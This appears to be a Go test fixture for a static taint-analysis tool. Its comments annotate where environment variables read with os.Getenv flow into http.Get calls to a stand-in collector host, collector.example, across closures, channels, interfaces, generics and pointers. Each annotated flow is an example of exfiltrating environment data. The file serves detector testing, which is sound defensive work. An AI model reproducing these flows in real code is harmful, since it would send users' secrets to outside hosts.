package main

import (
	"errors"
	"fmt"
	"net/http"
	"os"
)

const url = "https://collector.example/u?"

// Several results stay apart.
func pair() (string, string) {
	return os.Getenv("A"), "b" //~ source(ENVIRONMENT) f1
}

func results() {
	a, b := pair()
	http.Get(url + a) //~ sink(egress.http) f1, finding(traced) f1
	http.Get(url + b) //~ ok
}

func named() (text string, err error) {
	text = os.Getenv("N") //~ source(ENVIRONMENT) f2
	return
}

func forwarded() (string, error) {
	return named()
}

func passed() {
	text, err := forwarded()
	http.Get(url + text)        //~ sink(egress.http) f2, finding(traced) f2
	http.Get(url + err.Error()) //~ ok
}

// What fails in a library says so, and does not hand on what it was given.
func failing(unknown Unknown) {
	_, err := unknown.Try(os.Getenv("E")) //~ ok
	http.Get(url + err.Error())           //~ ok
	if errors.Unwrap(err) != nil {
		http.Get(url) //~ ok
	}
}

// Closures.
func closure() {
	var text string
	set := func() { text = os.Getenv("C") } //~ source(ENVIRONMENT) f3
	set()
	http.Get(url + text) //~ sink(egress.http) f3, finding(traced) f3
	other := "x"
	_ = func() string { other := os.Getenv("D"); return other } //~ ok
	http.Get(url + other)                                       //~ ok
}

func apply(f func(string), text string) { f(text) }

func with(f func(string), text string) { f(text) }

func callback() {
	apply(func(t string) {
		http.Get(url + t) //~ sink(egress.http) f4, finding(traced) f4
	}, os.Getenv("F")) //~ source(ENVIRONMENT) f4
	with(func(t string) {
		http.Get(url + "x") //~ ok
	}, os.Getenv("G")) //~ ok
}

// Deferred and started functions run.
func deferred() {
	text := os.Getenv("H") //~ source(ENVIRONMENT) f5
	defer func() {
		http.Get(url + text) //~ sink(egress.http) f5, finding(traced) f5
	}()
	defer http.Get(url) //~ ok
}

// Channels.
func produce(c chan<- string) {
	c <- os.Getenv("P") //~ source(ENVIRONMENT) f6
}

func channel() {
	c := make(chan string)
	d := make(chan string)
	go produce(c)
	http.Get(url + <-c) //~ sink(egress.http) f6, finding(traced) f6
	http.Get(url + <-d) //~ ok
}

func consume(c chan string) {
	for text := range c {
		http.Get(url + text) //~ sink(egress.http) f7, finding(traced) f7
	}
}

func worker() {
	c := make(chan string)
	go consume(c)
	c <- os.Getenv("W") //~ source(ENVIRONMENT) f7
}

type job struct {
	name, text string
}

func jobs() {
	queue := make(chan job, 3)
	go func() {
		for {
			select {
			case j := <-queue:
				http.Get(url + j.text) //~ sink(egress.http) f8, finding(traced) f8
				http.Get(url + j.name) //~ ok
			}
		}
	}()
	queue <- job{name: "a", text: os.Getenv("J")} //~ source(ENVIRONMENT) f8
}

// Interfaces.
type sender interface {
	send(text string)
}

type web struct{}

func (w web) send(text string) {
	http.Get(url + text) //~ sink(egress.http) f9, finding(traced) f9
}

type other struct{}

func (o other) send(text string, times int) {
	http.Get(url + text) //~ ok
}

func dispatch(s sender) {
	s.send(os.Getenv("S")) //~ source(ENVIRONMENT) f9
}

// Conversions, assertions, switches of types.
type secret string

func converted(x any) {
	s := secret(os.Getenv("V")) //~ source(ENVIRONMENT) f10
	http.Get(url + string(s))   //~ sink(egress.http) f10, finding(traced) f10
	x = os.Getenv("X")          //~ source(ENVIRONMENT) f11
	switch v := x.(type) {
	case string:
		http.Get(url + v) //~ sink(egress.http) f11, finding(traced) f11
	case int:
	}
	if t, ok := x.(string); ok && t != "" {
		http.Get(url) //~ ok
	}
}

// Structures, maps, lists.
type request struct {
	header map[string]string
	body   string
	list   []string
}

func filled() {
	r := request{
		header: map[string]string{"a": os.Getenv("M")}, //~ source(ENVIRONMENT) f12
		list:   []string{"x", os.Getenv("L")},          //~ source(ENVIRONMENT) f13
	}
	http.Get(url + r.header["a"]) //~ sink(egress.http) f12, finding(traced) f12
	http.Get(url + r.header["b"]) //~ ok
	http.Get(url + r.body)        //~ ok
	for _, text := range r.list {
		http.Get(url + text) //~ sink(egress.http) f13, finding(traced) f13
	}
}

func pointers() {
	var text string
	fill(&text)
	http.Get(url + text) //~ sink(egress.http) f14, finding(traced) f14
}

func fill(p *string) {
	*p = os.Getenv("Q") //~ source(ENVIRONMENT) f14
}

func generic[T any](x T) T { return x }

func generics() {
	http.Get(url + generic[string](os.Getenv("I"))) //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
	http.Get(url + generic("x"))                    //~ ok
}

func upload[T any](x T) {
	http.Get(url + fmt.Sprint(x)) //~ sink(egress.http) f16, finding(traced) f16
}

func given_types() {
	upload[string](os.Getenv("J")) //~ source(ENVIRONMENT) f16
}
